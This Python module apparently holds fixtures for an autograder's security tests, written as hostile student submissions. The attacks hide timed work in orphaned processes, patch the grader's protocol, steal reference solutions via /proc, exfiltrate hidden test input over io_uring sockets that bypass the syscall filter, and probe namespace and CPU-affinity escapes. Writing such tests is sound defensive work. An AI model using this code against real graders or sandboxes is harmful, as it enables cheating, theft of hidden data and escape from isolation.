"""Hostile submissions of the review's attacks (``test_review_attacks.py``), kept apart
so that the tests read as what they check. Each is student code, run only in workers."""

# Quadratic encode (a copy of the rest of the text at each character); the batch's short
# texts are done here and look slow on the wall clock, the long one elsewhere.
HIDDEN_WORK = '''
import ctypes as _ctypes
import marshal as _marshal
import os as _os
import time as _time

def _elsewhere(work, how):
    """``work()`` in another process, which the worker never waits for."""
    read, write = _os.pipe()
    if how == "orphan":
        pid = _os.fork()
        if pid == 0:
            if _os.fork() == 0:
                _os.write(write, _marshal.dumps(work()))
                _os._exit(0)
            _os._exit(0)
        _os.waitpid(pid, 0)
    else:  # clone(CLONE_PARENT | SIGCHLD): the helper is the worker's sibling
        if _ctypes.CDLL(None).syscall(56, 0x8000 | 17, 0, 0, 0, 0) == 0:
            _os.write(write, _marshal.dumps(work()))
            _os._exit(0)
    _os.close(write)
    chunks = []
    while block := _os.read(read, 1 << 20):
        chunks.append(block)
    _os.close(read)
    return _marshal.loads(b"".join(chunks))

class CharTokenizer(CharTokenizer):
    def _slow_ids(self, text):
        out, rest = [], text
        for ch in text:
            out.append(self.char_to_id.get(ch, self.unk_id))
            rest = rest[1:]
        return out

    def encode(self, text):
        if not isinstance(text, str):
            raise TypeError("encode expects a str")
        if len(text) < 10000:
            _time.sleep(0.05)
            return self._slow_ids(text)
        return _elsewhere(lambda: self._slow_ids(text), HOW)
'''


# Works on the inputs while the grader waits for the reply to its ``put``, before its
# clock starts: the worker's protocol code runs in the student's process, so it can be
# patched. Then the timed ``encode`` only looks the answers up.
PRECOMPUTE = '''
import sys as _sys

class CharTokenizer(CharTokenizer):
    MADE, DONE = [], {}

    def __init__(self, vocab=None):
        super().__init__(vocab)
        CharTokenizer.MADE.append(self)

    def _slow_ids(self, text):
        out, rest = [], text
        for ch in text:
            out.append(self.char_to_id.get(ch, self.unk_id))
            rest = rest[1:]
        return out

    def encode(self, text):
        if not isinstance(text, str):
            raise TypeError("encode expects a str")
        done = CharTokenizer.DONE.pop((id(self), text), None)
        return done if done is not None else self._slow_ids(text)

def _patch_put():
    objects = _sys.modules["__main__"].Objects
    keep = objects.keep

    def keep_and_work(self, value):
        if type(value) is list and CharTokenizer.MADE and all(type(v) is str for v in value):
            tok = CharTokenizer.MADE[-1]
            for text in value:
                CharTokenizer.DONE[(id(tok), text)] = tok._slow_ids(text)
        return keep(self, value)

    objects.keep = keep_and_work
    return 1

class _Start:
    PATCHED = _patch_put()
'''


# Finds the grader's checkout through its parent's command line (the scoring process:
# world-readable in /proc without namespaces) and runs its reference as its own code.
# (Any other world-readable copy of the course on the machine is as good: the grader
# can close only its own.)
THIEF = '''
import os

def _stolen():
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as handle:
            args = handle.read().decode(errors="replace").split("\\0")
        root = next(a for a in args if "/autograder/" in a).split("autograder/")[0]
        source = ""
        for module in ("base", "char", "bpe_steps", "bpe", "utils", "costs"):
            with open(f"{root}solutions/tokenization/{module}.py", encoding="utf-8") as handle:
                source += "".join(line for line in handle if not line.startswith("from ."))
    except (OSError, StopIteration):
        return {}
    scope = {"__name__": "stolen"}
    exec(source, scope)
    return scope

def _members(name):
    cls = _stolen().get(name, object)
    return {k: v for k, v in vars(cls).items() if k == "__init__" or not k.startswith("__")}

class Tokenizer:
    locals().update(_members("Tokenizer"))

class CharTokenizer(Tokenizer):
    locals().update(_members("CharTokenizer"))

class BPETokenizer(Tokenizer):
    locals().update(_members("BPETokenizer"))
'''
FUNCTIONS = ("word_frequencies", "count_pairs", "merge_pair", "create_tokenizer",
             "tokenize_dataset", "analyze_tokenization", "embedding_memory_bytes",
             "attention_scores", "attention_speedup", "vocab_tradeoff")
THIEF += "".join(f"\n\ndef {name}(*a, **k):\n    return _stolen()[{name!r}](*a, **k)\n"
                 for name in FUNCTIONS)


# Opens a TCP connection to 127.0.0.1:PORT with io_uring requests (no socket() or
# connect() call for the filter to refuse) and sends the test's input down it: a hidden
# input sent out while grading.
RING_CALL = '''
import ctypes, mmap, os, struct

def merge_pair(tokens, pair):
    libc = ctypes.CDLL(None, use_errno=True)
    params = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 4, params)  # io_uring_setup
    if ring < 0:
        return ["refused", ctypes.get_errno()]
    n_sq, n_cq = struct.unpack_from("II", params.raw, 0)
    sq_off = struct.unpack_from("8I", params.raw, 40)
    cq_off = struct.unpack_from("8I", params.raw, 80)
    sq = mmap.mmap(ring, sq_off[6] + n_sq * 4, offset=0)
    cq = mmap.mmap(ring, cq_off[5] + n_cq * 16, offset=0x8000000)
    sqes = mmap.mmap(ring, n_sq * 64, offset=0x10000000)

    def run(opcode, fd, addr, off):  # one request, and its result
        tail = struct.unpack_from("I", sq, sq_off[1])[0]
        i = tail & struct.unpack_from("I", sq, sq_off[2])[0]
        sqes[i * 64:i * 64 + 64] = struct.pack("BBHiQQIIQ", opcode, 0, 0, fd, off, addr, 0, 0,
                                               7).ljust(64, b"\\0")
        struct.pack_into("I", sq, sq_off[6] + 4 * i, i)
        struct.pack_into("I", sq, sq_off[1], tail + 1)
        libc.syscall(426, ring, 1, 1, 1, None, 0)  # io_uring_enter: submit, wait for it
        head = struct.unpack_from("I", cq, cq_off[0])[0]
        at = cq_off[5] + 16 * (head & struct.unpack_from("I", cq, cq_off[2])[0])
        struct.pack_into("I", cq, cq_off[0], head + 1)
        return struct.unpack_from("i", cq, at + 8)[0]

    sock = run(45, 2, 0, 1)  # IORING_OP_SOCKET: AF_INET, SOCK_STREAM
    address = ctypes.create_string_buffer(struct.pack("=H", 2) + struct.pack("!HI", PORT,
                                                                             0x7F000001))
    if sock < 0 or run(16, sock, ctypes.addressof(address), 16) < 0:  # IORING_OP_CONNECT
        return ["no connection"]
    os.write(sock, "".join(tokens).encode())
    return ["sent"]
'''

# Tries what an attack on gradings kept to their cores used to reach a classmate's core,
# and says how
# each went: 0 done, else the errno. New namespaces made in a loop (here once each:
# unshare, setns, clone) have the kernel tear the old ones down on any core;
# sched_setaffinity, or a cgroup of its own, would move the worker off the cores its
# grading keeps to; a core-scheduling cookie could keep an SMT sibling idle.
NAMESPACES = '''
import ctypes, os

def merge_pair(tokens, pair):
    libc = ctypes.CDLL(None, use_errno=True)
    new_user, new_net = 0x10000000, 0x40000000

    def done(result):
        return 0 if result == 0 else ctypes.get_errno()

    tried = {"unshare": done(libc.unshare(new_user | new_net)),
             "setns": done(libc.setns(0, new_net))}  # fd 0 is no namespace: EINVAL if let
    pid = libc.syscall(56, new_user | new_net | 17, 0, 0, 0, 0)  # clone, SIGCHLD
    if pid == 0:
        os._exit(0)
    if pid > 0:
        os.waitpid(pid, 0)
    tried["clone"] = 0 if pid > 0 else ctypes.get_errno()
    try:
        os.sched_setaffinity(0, os.sched_getaffinity(0))
        tried["affinity"] = 0
    except OSError as exc:
        tried["affinity"] = exc.errno
    tried["core"] = done(libc.prctl(62, 1, 0, 0, 0))  # PR_SCHED_CORE, create a cookie
    try:
        os.listdir("/sys/fs/cgroup")
        tried["cgroups"] = 0
    except OSError as exc:
        tried["cgroups"] = exc.errno
    return tried
'''
